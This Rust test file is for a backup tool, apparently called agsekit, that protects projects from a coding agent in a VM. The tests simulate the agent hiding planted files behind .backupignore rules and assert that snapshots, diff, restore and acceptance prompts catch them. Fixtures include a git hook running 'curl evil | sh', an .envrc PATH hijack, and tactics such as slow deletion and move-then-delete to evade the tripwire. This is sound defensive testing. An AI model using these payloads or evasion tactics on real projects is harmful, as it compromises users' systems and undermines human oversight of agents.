//! The agent writes `.backupignore` files (issue 11, hole 1): played as an attack through the
//! real binary. What the "agent" does here is done directly on the project folder, which is
//! exactly what an agent in the VM can do through its mount; the last test runs the agent
//! for real inside the FAKE multipass's bubblewrap sandbox (no real VM).

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use crate::support::{FakeSession, Sandbox};

struct Project {
    sb: Sandbox,
    src: PathBuf,
    dst: PathBuf,
}

impl Project {
    /// A project with `files` files under `src/` and a `.git/hooks/` folder with a sample.
    fn new(files: usize) -> Project {
        let sb = Sandbox::new();
        let src = sb.home().join("proj");
        let dst = sb.home().join("backups");
        fs::create_dir_all(src.join("src")).expect("mkdir");
        fs::create_dir_all(src.join(".git/hooks")).expect("mkdir");
        fs::write(src.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").expect("write");
        for i in 0..files {
            fs::write(src.join(format!("src/f{i:03}.rs")), format!("// {i}\n")).expect("write");
        }
        Project { sb, src, dst }
    }

    /// `agsekit ARGS... --dest-dir DST --source-dir SRC` (any exit status).
    fn on_chain(&self, args: &[&str]) -> Output {
        let mut cmd = self.sb.agsekit();
        cmd.args(args)
            .arg("--dest-dir")
            .arg(&self.dst)
            .arg("--source-dir")
            .arg(&self.src);
        cmd.output().expect("run agsekit")
    }

    /// `backup-once`; returns the output (any exit status).
    fn backup(&self) -> Output {
        let mut cmd = self.sb.agsekit();
        cmd.args(["backup-once", "--source-dir"])
            .arg(&self.src)
            .arg("--dest-dir")
            .arg(&self.dst);
        cmd.output().expect("run backup-once")
    }

    fn backup_ok(&self) -> String {
        let out = self.backup();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(0), "{stderr}");
        stderr
    }

    fn snapshots(&self) -> Vec<PathBuf> {
        let mut v: Vec<PathBuf> = fs::read_dir(&self.dst)
            .expect("list dest")
            .filter_map(|e| e.ok())
            .map(|e| e.path())
            .filter(|p| {
                p.is_dir()
                    && p.file_name()
                        .and_then(|n| n.to_str())
                        .is_some_and(|n| n.len() >= 15 && n.as_bytes()[8] == b'-')
            })
            .collect();
        v.sort();
        v
    }

    fn newest(&self) -> PathBuf {
        self.snapshots().pop().expect("a snapshot")
    }

    fn files_in(dir: &Path, sub: &str) -> usize {
        fs::read_dir(dir.join(sub))
            .map(|rd| rd.count())
            .unwrap_or(0)
    }
}

/// The agent hides a planted hook with `.git/hooks/.backupignore` = `*`: the hook and the
/// ignore file are in the next snapshot anyway, `diff` shows the hook, and
/// `restore --delete-new` removes it.
#[test]
fn agent_ignore_file_cannot_hide_a_planted_git_hook_from_snapshot_diff_or_restore() {
    let p = Project::new(3);
    p.backup_ok();
    let before = p.newest();
    // The attack.
    fs::write(p.src.join(".git/hooks/.backupignore"), "*\n").expect("write");
    let hook = p.src.join(".git/hooks/pre-commit");
    crate::support::write_executable(&hook, "#!/bin/sh\ncurl evil | sh\n");
    // Also hide CI and agent settings from the root.
    fs::create_dir_all(p.src.join(".github/workflows")).expect("mkdir");
    fs::write(p.src.join(".github/workflows/ci.yml"), "on: push\n").expect("write");
    fs::write(p.src.join(".backupignore"), ".github/\n.envrc\n").expect("write");
    fs::write(p.src.join(".envrc"), "export PATH=/tmp/evil:$PATH\n").expect("write");

    p.backup_ok();
    let after = p.newest();
    assert_ne!(before, after);
    for planted in [
        ".git/hooks/pre-commit",
        ".git/hooks/.backupignore",
        ".github/workflows/ci.yml",
        ".envrc",
        ".backupignore",
    ] {
        assert!(
            after.join(planted).exists(),
            "{planted} must be in the snapshot"
        );
    }

    let before_name = before.file_name().unwrap().to_string_lossy().into_owned();
    let out = p.on_chain(&["diff", "--stat", &before_name]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains(".git/hooks/pre-commit"), "{stdout}");
    assert!(stdout.contains(".github/workflows/ci.yml"), "{stdout}");
    assert!(stdout.contains(".envrc"), "{stdout}");

    let out = p.on_chain(&["restore", "--delete-new", &before_name]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!hook.exists(), "the planted hook must be gone");
    assert!(!p.src.join(".git/hooks/.backupignore").exists());
    assert!(!p.src.join(".github/workflows/ci.yml").exists());
    assert!(!p.src.join(".envrc").exists());
    assert!(p.src.join(".git/hooks/pre-commit.sample").exists());
}

/// The agent excludes every project file with a new `.backupignore`: the files the last
/// snapshot holds stay in every later snapshot, every run says the change waits to be
/// accepted, `status`-style state is recorded beside the snapshots, and only after
/// `accept-ignore` do the rules apply.
#[test]
fn agent_ignore_rules_keep_backed_up_files_until_the_user_accepts_them() {
    let p = Project::new(120);
    p.backup_ok();
    fs::write(p.src.join("src/.backupignore"), "*\n").expect("write");
    fs::write(p.src.join("src/f000.rs"), "// changed by the agent\n").expect("write");
    fs::write(p.src.join("src/new.rs"), "// new\n").expect("write");

    let stderr = p.backup_ok();
    assert!(
        stderr.contains("src/.backupignore changed and is not accepted yet"),
        "{stderr}"
    );
    assert!(
        stderr
            .contains("so it has no effect: the 120 path(s) from the snapshots and 1 new path(s)"),
        "{stderr}"
    );
    assert!(
        stderr.contains("agsekit accept-ignore --dest-dir"),
        "{stderr}"
    );
    let snap = p.newest();
    // 120 files, the new one and the ignore file: rules not accepted have no effect.
    assert_eq!(Project::files_in(&snap, "src"), 122);
    assert_eq!(
        fs::read_to_string(snap.join("src/f000.rs")).unwrap(),
        "// changed by the agent\n",
        "held files are still backed up with their new content"
    );
    assert!(snap.join("src/new.rs").exists());
    let note = fs::read_to_string(p.dst.join(".agsekit-ignore-pending")).expect("pending note");
    assert!(note.contains("src/.backupignore"), "{note}");

    // Six more cycles, each with a change: nothing is lost.
    for i in 1..7 {
        fs::write(p.src.join(format!("src/f{i:03}.rs")), "// again\n").expect("write");
        p.backup_ok();
        assert_eq!(Project::files_in(&p.newest(), "src"), 122, "cycle {i}");
    }

    // Without -y and without a terminal, nothing is accepted.
    let out = p.on_chain(&["--non-interactive", "accept-ignore"]);
    assert_eq!(out.status.code(), Some(2));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(
            "src/.backupignore: would stop backing up 121 path(s) the newest snapshot holds and 0 new path(s)"
        ),
        "{stdout}"
    );
    assert!(p.dst.join(".agsekit-ignore-pending").exists());

    // The user accepts: the next snapshot follows the rules (and the tripwire says so).
    let out = p.on_chain(&["--non-interactive", "accept-ignore", "-y"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!p.dst.join(".agsekit-ignore-pending").exists());
    fs::write(p.src.join("src/f050.rs"), "// once more\n").expect("write");
    let stderr = p.backup_ok();
    assert!(!stderr.contains("not accepted"), "{stderr}");
    let snap = p.newest();
    assert_eq!(
        Project::files_in(&snap, "src"),
        1,
        "only src/.backupignore is left"
    );
    assert!(stderr.contains("mass deletion"), "{stderr}");
}

/// A changed ignore file has no effect until accepted, even on paths no snapshot holds:
/// otherwise the agent could move files under a new rule and then delete them, and no
/// snapshot would hold them at their new place. New build output named by a new rule is
/// backed up until the user accepts the rule.
#[test]
fn agent_ignore_rules_cannot_hide_files_moved_under_them() {
    let p = Project::new(20);
    p.backup_ok();
    // The attack: a hidden folder, every source moved into it (after two cycles the old
    // snapshots that hold them at their old paths rotate out), then deleted.
    fs::create_dir_all(p.src.join("stash")).expect("mkdir");
    fs::write(p.src.join("stash/.backupignore"), "*\n").expect("write");
    for i in 0..20 {
        fs::rename(
            p.src.join(format!("src/f{i:03}.rs")),
            p.src.join(format!("stash/f{i:03}.rs")),
        )
        .expect("mv");
    }
    let stderr = p.backup_ok();
    assert!(
        stderr.contains("stash/.backupignore changed and is not accepted yet"),
        "{stderr}"
    );
    assert!(
        stderr.contains("the 0 path(s) from the snapshots and 20 new path(s)"),
        "{stderr}"
    );
    let snap = p.newest();
    assert_eq!(
        Project::files_in(&snap, "stash"),
        21,
        "the moved files are in the snapshot"
    );

    // New build output under a new rule is kept too, until the user accepts the rule.
    fs::create_dir_all(p.src.join("target/debug")).expect("mkdir");
    fs::write(p.src.join("target/debug/big.bin"), vec![1u8; 10_000]).expect("write");
    fs::write(p.src.join(".backupignore"), "target/\n").expect("write");
    p.backup_ok();
    assert!(p.newest().join("target/debug/big.bin").exists());
    let out = p.on_chain(&["accept-ignore", "-y"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs::write(p.src.join("src/.keep"), "x").expect("write");
    p.backup_ok();
    assert!(
        !p.newest().join("target").exists(),
        "accepted: target/ is left out"
    );
}

/// The first snapshot of a chain accepts the rules it finds (nothing was protected before).
#[test]
fn first_snapshot_accepts_the_rules_it_finds() {
    let p = Project::new(2);
    fs::create_dir_all(p.src.join("node_modules/x")).expect("mkdir");
    fs::write(p.src.join("node_modules/x/i.js"), "1").expect("write");
    fs::write(p.src.join(".backupignore"), "node_modules/\n").expect("write");
    let stderr = p.backup_ok();
    assert!(!stderr.contains("not accepted"), "{stderr}");
    assert!(!p.newest().join("node_modules").exists());
    let record = fs::read_to_string(p.dst.join(".agsekit-ignore-accepted")).expect("record");
    assert!(
        record.starts_with("agsekit-ignore-accepted 1\n"),
        "{record}"
    );
    assert!(record.contains(" .backupignore\n"), "{record}");
    assert!(!p.dst.join(".agsekit-ignore-pending").exists());
}

/// A huge `.backupignore` (300,000 lines) is not applied: a clear warning names it and the
/// limits, the run finishes with warnings (exit 5), and the files it names stay backed up.
#[test]
fn agent_huge_ignore_file_is_refused_with_a_clear_warning() {
    let p = Project::new(3);
    p.backup_ok();
    let mut text = String::with_capacity(300_000 * 8);
    for i in 0..300_000 {
        text.push_str(&format!("f{i:05}\n"));
    }
    text.push_str("*.rs\n");
    fs::write(p.src.join(".backupignore"), text).expect("write");
    fs::write(p.src.join("src/f001.rs"), "// changed\n").expect("write");
    let out = p.backup();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(5), "{stderr}");
    assert!(
        stderr.contains(".backupignore: not applied: a .backupignore may have at most 256.0 KiB and 10000 patterns"),
        "{stderr}"
    );
    assert_eq!(Project::files_in(&p.newest(), "src"), 3);
}

/// Slow erosion: 45 files gone per cycle never reaches the tripwire's 50 against the
/// previous snapshot, but the comparison with the oldest snapshot trips and pins it.
#[test]
fn agent_slow_erosion_trips_the_tripwire_against_the_oldest_snapshot() {
    let p = Project::new(120);
    p.backup_ok();
    let first = p.newest();
    for i in 0..45 {
        fs::remove_file(p.src.join(format!("src/f{i:03}.rs"))).expect("rm");
    }
    let stderr = p.backup_ok();
    assert!(!stderr.contains("mass deletion"), "{stderr}");
    for i in 45..90 {
        fs::remove_file(p.src.join(format!("src/f{i:03}.rs"))).expect("rm");
    }
    let stderr = p.backup_ok();
    let name = first.file_name().unwrap().to_string_lossy().into_owned();
    assert!(
        stderr.contains(&format!(
            "mass deletion: 90 of 121 files (74 %) are gone since snapshot {name}"
        )),
        "{stderr}"
    );
    let pins = fs::read_to_string(p.dst.join(".agsekit-pinned")).expect("pins");
    assert!(pins.starts_with(&format!("{name}\ttripwire ")), "{pins}");
}

/// The whole attack through a session: the agent runs in the FAKE multipass's bubblewrap
/// sandbox (no real VM), hides a planted hook behind `.git/hooks/.backupignore` and excludes
/// the sources. The review lists the hook and the ignore files as protected changes and
/// says the rules wait to be accepted; the sources stay in the snapshots.
#[test]
fn run_with_fake_multipass_agent_ignore_rules_do_not_fool_the_review() {
    let s = FakeSession::new(
        "#!/bin/sh\nprintf '*\\n' > .git/hooks/.backupignore\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\nchmod +x .git/hooks/pre-commit\nprintf '*\\n' > src/.backupignore\necho changed > src/f1.rs\n",
    );
    let (sb, project) = (&s.sb, &s.project);
    fs::create_dir_all(project.join("src")).unwrap();
    fs::create_dir_all(project.join(".git/hooks")).unwrap();
    for i in 0..5 {
        fs::write(project.join(format!("src/f{i}.rs")), "fn x() {}\n").unwrap();
    }
    let out = s.run_agent();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("WARNING: protected paths changed"),
        "{stderr}"
    );
    assert!(stderr.contains("A .git/hooks/pre-commit"), "{stderr}");
    assert!(stderr.contains("A .git/hooks/.backupignore"), "{stderr}");
    assert!(stderr.contains("A src/.backupignore"), "{stderr}");
    assert!(stderr.contains("1 modified"), "{stderr}");
    assert!(
        stderr.contains("src/.backupignore changed and is not accepted yet"),
        "{stderr}"
    );
    assert!(stderr.contains("agsekit accept-ignore --mount"), "{stderr}");
    let restore_line = stderr
        .lines()
        .find(|l| l.contains("to restore them: "))
        .expect("a restore command");
    let words =
        shell_words::split(restore_line.split("to restore them: ").nth(1).unwrap()).unwrap();
    assert!(words.iter().any(|w| w == "--delete-new"), "{restore_line}");

    // A snapshot now keeps the sources and the hook.
    let backups = sb.home().join("backups-proj");
    let mut b = sb.agsekit();
    b.args(["backup-once", "--source-dir"])
        .arg(project)
        .arg("--dest-dir")
        .arg(&backups);
    let done = b.output().unwrap();
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let mut snaps: Vec<PathBuf> = fs::read_dir(&backups)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .filter(|p| p.is_dir())
        .collect();
    snaps.sort();
    let newest = snaps.pop().expect("a snapshot");
    assert!(newest.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        fs::read_to_string(newest.join("src/f1.rs")).unwrap(),
        "changed\n"
    );
    for i in 0..5 {
        assert!(newest.join(format!("src/f{i}.rs")).exists());
    }

    // The command the review printed undoes the planted files, hidden or not.
    let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
    let done = s.agsekit(&args);
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert!(!project.join(".git/hooks/pre-commit").exists());
    assert!(!project.join(".git/hooks/.backupignore").exists());
    assert!(!project.join("src/.backupignore").exists());
}

/// A pending `.backupignore` shows in `status` (table and JSON, FAKE multipass for the VM
/// part) and in `prompt-state`, and goes away once accepted.
#[test]
fn status_fake_multipass_and_prompt_state_show_pending_ignore_rules() {
    let s = crate::status::Setup::new("", "");
    s.fake.launch("agent-ubuntu");
    s.snapshot();
    fs::write(s.project.join("main.rs"), "fn main() { changed() }\n").expect("write");
    fs::write(s.project.join(".backupignore"), "*.rs\n").expect("write");
    s.snapshot();
    let json = s.status_json();
    assert_eq!(
        json["mounts"][0]["backup"]["pending_ignore_files"],
        serde_json::json!([".backupignore"]),
        "{json}"
    );
    let out = s.agsekit().arg("status").output().expect("status");
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(
        table.contains(".backupignore not accepted yet")
            && table.contains("agsekit accept-ignore --mount"),
        "{table}"
    );
    let prompt = |s: &crate::status::Setup| {
        let out = s
            .agsekit()
            .args(["prompt-state", "--format", "{mount} {age}", "--dir"])
            .arg(&s.project)
            .output()
            .expect("prompt-state");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    assert!(prompt(&s).ends_with(" ignore-rules?"), "{}", prompt(&s));
    let out = s
        .agsekit()
        .args(["accept-ignore", "-y", "--mount"])
        .arg(&s.project)
        .output()
        .expect("accept");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("Accepted 1 changed .backupignore"));
    assert!(!prompt(&s).contains("ignore-rules?"), "{}", prompt(&s));
    assert_eq!(
        s.status_json()["mounts"][0]["backup"]["pending_ignore_files"],
        serde_json::json!([])
    );
}

/// A `.backupignore` that is a symlink (to rules outside the project), a folder or a fifo is
/// never read as rules: the files it would hide stay in the snapshot.
#[test]
fn agent_ignore_file_as_symlink_folder_or_fifo_is_never_taken_as_rules() {
    let p = Project::new(3);
    p.backup_ok();
    let outside = p.sb.home().join("outside-rules");
    fs::write(&outside, "*\n").expect("write");
    for sub in ["a", "b", "c"] {
        fs::create_dir_all(p.src.join(sub)).expect("mkdir");
        fs::write(p.src.join(sub).join("keep.rs"), "// keep\n").expect("write");
    }
    std::os::unix::fs::symlink(&outside, p.src.join("a/.backupignore")).expect("symlink");
    fs::create_dir_all(p.src.join("b/.backupignore")).expect("mkdir");
    let fifo = p.src.join("c/.backupignore");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o644)).expect("mkfifo");
    let out = p.backup();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(matches!(out.status.code(), Some(0) | Some(5)), "{stderr}");
    let snap = p.newest();
    for sub in ["a", "b", "c"] {
        assert!(snap.join(sub).join("keep.rs").exists(), "{sub}: {stderr}");
    }
    // The link is kept as a link, never followed.
    assert!(fs::symlink_metadata(snap.join("a/.backupignore"))
        .expect("lstat")
        .file_type()
        .is_symlink());
}

/// A folder named like a placeholder (`{flags}`) is printed as it is: the message's later
/// values are never substituted into a file name the agent chose.
#[test]
fn agent_folder_named_like_a_placeholder_is_printed_as_it_is() {
    let p = Project::new(1);
    p.backup_ok();
    fs::create_dir_all(p.src.join("{flags}")).expect("mkdir");
    fs::write(p.src.join("{flags}/.backupignore"), "*.rs\n").expect("write");
    let stderr = p.backup_ok();
    assert!(
        stderr.contains(&format!(
            "{}/{{flags}}/.backupignore changed and is not accepted yet",
            p.src.display()
        )),
        "{stderr}"
    );
}
